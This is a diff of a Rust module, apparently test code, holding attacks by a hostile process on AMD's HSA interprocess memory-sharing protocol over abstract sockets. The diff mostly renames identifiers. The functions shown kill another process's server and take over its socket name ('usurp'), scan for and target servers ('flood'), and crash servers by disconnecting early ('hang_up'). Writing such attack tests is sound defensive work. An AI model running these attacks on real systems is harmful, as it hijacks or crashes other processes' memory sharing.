@@ -1,4 +1,4 @@
-//! Attacks of a hostile process on AMD's protocol, the abstract sockets `hsa<number>`.
+//! Attacks of a hostile process on AMD's protocol, which uses the abstract sockets `hsa<process>`.
 
 use hsa_vmm::ipc::IpcHandle;
 use rustix::net::{
@@ -17,7 +17,7 @@ const TIME_LIMIT: Duration = Duration::from_secs(20);
 /// The size of a request to AMD's server.
 const REQUEST: usize = 64;
 /// The request that ends AMD's server.
-const END: u64 = u64::MAX;
+const END_REQUEST: u64 = u64::MAX;
 
 fn server_address(process: i32) -> SocketAddr {
     let mut name = [0; 107];
@@ -38,14 +38,14 @@ fn request(pointer: u64) -> [u8; REQUEST] {
 }
 
 /// Returns the address that a handle requests from AMD's server.
-pub fn pointer(handle: &IpcHandle) -> u64 {
+pub fn requested_address(handle: &IpcHandle) -> u64 {
     u64::from_le_bytes(handle.to_bytes()[..8].try_into().expect("eight bytes"))
 }
 
 /// Fetches the memory of a handle from AMD's server in the exporter.
 fn fetch(handle: &IpcHandle) -> OwnedFd {
     let (mut stream, descriptor) =
-        request_memory(handle.process, pointer(handle)).expect("a descriptor");
+        request_memory(handle.process, requested_address(handle)).expect("a descriptor");
     stream.write_all(&request(0)).expect("the server waits for a second request");
     descriptor
 }
@@ -87,10 +87,10 @@ fn bind_name(process: i32) -> UnixListener {
     }
 }
 
-/// Ends another process's server, binds its name, and from then on serves the memory of `own`.
+/// Ends another process's server, binds the server's name, and from then on sends the memory of `own`.
 pub fn usurp(process: i32, own: &IpcHandle) {
     let mut stream = connect(process).expect("a server");
-    stream.write_all(&request(END)).expect("the server reads");
+    stream.write_all(&request(END_REQUEST)).expect("the server reads");
     drop(stream);
     let listener = bind_name(process);
     let memory = fetch(own);
@@ -124,7 +124,7 @@ pub fn flood() {
             let numbers = sockets.lines().filter_map(|line| {
                 let name = line.split_whitespace().nth(7)?.trim_end_matches('@');
                 let number: i64 = name.strip_prefix("@hsa")?.parse().ok()?;
-                // Not AMD's own servers.
+                // Skips AMD's own servers.
                 (!(0..1 << 22).contains(&number)).then_some(number as i32)
             });
             for number in numbers {
@@ -137,13 +137,13 @@ pub fn flood() {
     });
 }
 
-/// Requests memory from AMD's server and disconnects before the reply, up to `times` times. Returns early if the
-/// server has ended, because a connection that ends after the reply ends the server.
+/// Requests memory from AMD's server and disconnects before the reply, up to `times` times. Returns early if this
+/// has ended the server: a client that disconnects after the reply ends it.
 pub fn hang_up(handle: &IpcHandle, times: usize) {
     for _ in 0..times {
         let Ok(mut stream) = connect(handle.process) else { return };
         // The server may have ended meanwhile, with the connection in its queue.
-        let _ = stream.write_all(&request(pointer(handle)));
+        let _ = stream.write_all(&request(requested_address(handle)));
     }
 }
 
